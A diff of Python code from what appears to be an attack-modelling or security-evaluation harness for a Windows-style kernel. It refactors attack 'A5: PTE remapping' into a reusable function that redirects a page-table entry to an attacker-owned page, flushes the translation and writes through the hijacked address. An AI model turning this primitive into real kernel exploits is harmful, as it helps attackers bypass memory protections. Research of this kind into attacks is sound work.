@@ -329,17 +329,26 @@ def readers_see_forged(ctx: AttackContext) -> bool:
 
 
 # -- A5: PTE remapping -----------------------------------------------------------------------------
-def _remap_and_set(cpu: Cpu, va: int, own_gpa: int, value: int) -> int:
-    """K0: point the variable's PTE at a page of the attacker's (NT's tables are VTL0-writable),
-    flush it, then store the value through the variable's own address."""
-    tables = PageTables(nt_of(cpu).phys(cpu), cpu.read_cr(3))
-    pte = tables.pte_gpa(va)
+def remap_pte(cpu: Cpu, va: int, own_gpa: int) -> int | None:
+    """K0: point the 4 KiB PTE that maps ``va`` in the current tables at ``own_gpa`` (RW, NX,
+    global: NT's tables are VTL0-writable) and flush the stale translation; the PTE it replaced
+    (None: no 4 KiB PTE maps ``va``)."""
+    pte = PageTables(nt_of(cpu).phys(cpu), cpu.read_cr(3)).pte_gpa(va)
     if pte is None:
-        return 0
+        return None
     old: int = cpu.read_u64(DIRECT_MAP + pte)
     flags = int(Pte.P | Pte.RW | Pte.NX | Pte.G)
     cpu.write_u64(DIRECT_MAP + pte, (own_gpa & PTE_ADDR_MASK) | flags)
     cpu.invlpg(va)
+    return old
+
+
+def _remap_and_set(cpu: Cpu, va: int, own_gpa: int, value: int) -> int:
+    """K0: point the variable's PTE at a page of the attacker's, then store the value through
+    the variable's own address."""
+    old = remap_pte(cpu, va, own_gpa)
+    if old is None:
+        return 0
     cpu.write_u64(va, value)
     return old
 
